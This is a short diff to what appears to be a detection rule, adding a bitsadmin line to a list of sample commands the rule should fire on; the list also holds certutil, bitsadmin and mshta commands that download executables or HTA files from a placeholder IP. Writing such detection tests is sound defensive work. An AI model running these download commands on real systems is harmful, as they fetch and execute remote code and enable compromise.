@@ -63,6 +63,7 @@ export const rule: Rule = {
   ],
   examples: {
     fires: [
+      'bitsadmin /transfer {{name}} http://203.0.113.7/a.exe C:\\\\a.exe',
       'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe',
       'bitsadmin /transfer job /download /priority high http://203.0.113.7/a.exe C:\\a.exe',
       'mshta http://203.0.113.7/a.hta',
